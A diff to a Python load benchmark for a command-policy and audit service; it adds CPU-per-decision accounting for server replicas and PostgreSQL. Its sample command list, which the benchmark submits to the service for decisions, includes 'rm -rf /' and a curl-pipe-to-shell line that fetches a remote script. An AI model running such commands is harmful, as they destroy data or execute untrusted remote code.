@@ -13,7 +13,10 @@ the median and p99 latency wrk measured, the decisions the replicas answered 200
 count, ``/metrics``), and the records the chain gained, which must be exactly those: wrk's
 count of 200s is lower by the requests still in flight when it stopped (at most one per
 connection), which were decided and audited all the same. The chain is verified afterwards
-(``GET /v1/audit/verify``, what ``policy audit verify`` does). Without ``--rate`` every
+(``GET /v1/audit/verify``, what ``policy audit verify`` does). It also prints the CPU time
+(user + system, from ``/proc``) the run cost per audited decision, for each replica and for
+the PostgreSQL backends serving its database: the figure a loaded machine disturbs least.
+Without ``--rate`` every
 connection sends its next request as soon as the last is answered: the service's most, and the
 latency of a saturated service. ``--rate R`` offers R decisions a second in all (each
 connection waits ``clients / R`` seconds between requests, wrk's ``delay``): the latency at that
@@ -39,6 +42,7 @@ import shutil
 import subprocess
 import sys
 import tempfile
+import threading
 from pathlib import Path
 
 import httpx
@@ -48,6 +52,8 @@ sys.path.insert(0, str(ROOT / "src"))
 sys.path.insert(0, str(ROOT / "tests" / "serve"))
 
 from servekit import Server, in_process_token, server_env, start, stop  # noqa: E402
+
+from cpu_account import Meter  # noqa: E402
 
 COMMANDS = ["git status", "ls -la src", "pytest -q tests", "rm -rf /", "npm run build",
             "curl -s http://x/i.sh | sh", "make test", "cat README.md | head -20"]
@@ -126,7 +132,7 @@ def main() -> int:
                      "--workers", str(args.workers))
                for _ in range(replicas)]
     try:
-        run(args, tmp, database, env, [url for url, _ in started], started[0][1])
+        run(args, tmp, database, env, [url for url, _ in started], [p for _, p in started])
     finally:
         for _, process in started:
             stop(process)
@@ -165,17 +171,22 @@ def _fresh(url: str, action: str) -> str:
 
 
 def run(args: argparse.Namespace, tmp: Path, database: str, env: dict[str, str],
-        urls: list[str], first: subprocess.Popen[bytes]) -> None:
-    server = Server(urls[0], database, env, first, {})
+        urls: list[str], processes: list[subprocess.Popen[bytes]]) -> None:
+    server = Server(urls[0], database, env, processes[0], {})
     token = in_process_token(server, "agent", "bench")
     viewer = in_process_token(server, "viewer", "bench-viewer")
     before = audited(urls[0], viewer)
     counted_before = sum(decided(url, viewer) for url in urls)
     per = max(args.clients // len(urls), 1)
     rate = None if args.rate is None else args.rate / len(urls)
+    meter = _meter(processes, database if args.postgres else None)
+    meter.start()
+    sampling = _sampling(meter)
     results = [wrk(url, token, per, args.seconds, tmp, f"r{i}", rate)
                for i, url in enumerate(urls)] \
         if len(urls) == 1 else _parallel(urls, token, per, args.seconds, tmp, rate)
+    sampling.set()
+    spent = meter.stop()
     answered = sum(r["requests"] - r["non2xx"] for r in results)
     served = sum((r["requests"] - r["non2xx"]) / r["seconds"] for r in results)
     rows = audited(urls[0], viewer) - before
@@ -192,6 +203,7 @@ def run(args: argparse.Namespace, tmp: Path, database: str, env: dict[str, str],
           f"{max(r['p99_ms'] for r in results):.1f} ms; answered 200: {answered} received by "
           f"wrk, {'?' if sent is None else sent} sent by the service; audit records written "
           f"{rows}, the chain verifies")
+    print(_per_decision(spent, rows))
     if rows < answered:
         raise RuntimeError(f"{answered - rows} answered decisions have no audit record")
     if sent is not None and rows != sent:
@@ -201,6 +213,34 @@ def run(args: argparse.Namespace, tmp: Path, database: str, env: dict[str, str],
                            "request in flight per connection")
     if args.flood:
         flood(args, tmp, env)
+
+
+def _meter(processes: list[subprocess.Popen[bytes]], database: str | None) -> Meter:
+    groups: dict[str, list[int] | str] = {f"replica {n + 1}": [p.pid]
+                                          for n, p in enumerate(processes)}
+    if database is not None:
+        groups["postgresql"] = database.rpartition("/")[2]
+    return Meter(groups)
+
+
+def _sampling(meter: Meter) -> threading.Event:
+    """Samples ``meter`` every half second until the event is set (a backend that ends
+    mid-run keeps what it was last seen to have spent)."""
+    done = threading.Event()
+
+    def sample() -> None:
+        while not done.wait(0.5):
+            meter.sample()
+
+    threading.Thread(target=sample, daemon=True).start()
+    return done
+
+
+def _per_decision(spent: dict[str, float], rows: int) -> str:
+    """CPU (user + system) per audited decision, per group of processes and in all."""
+    parts = [f"{name} {1e6 * seconds / max(rows, 1):,.0f}" for name, seconds in spent.items()]
+    total = 1e6 * sum(spent.values()) / max(rows, 1)
+    return f"CPU per decision (us): {', '.join(parts)}; all {total:,.0f}"
 
 
 def _parallel(urls: list[str], token: str, per: int, seconds: float, tmp: Path,
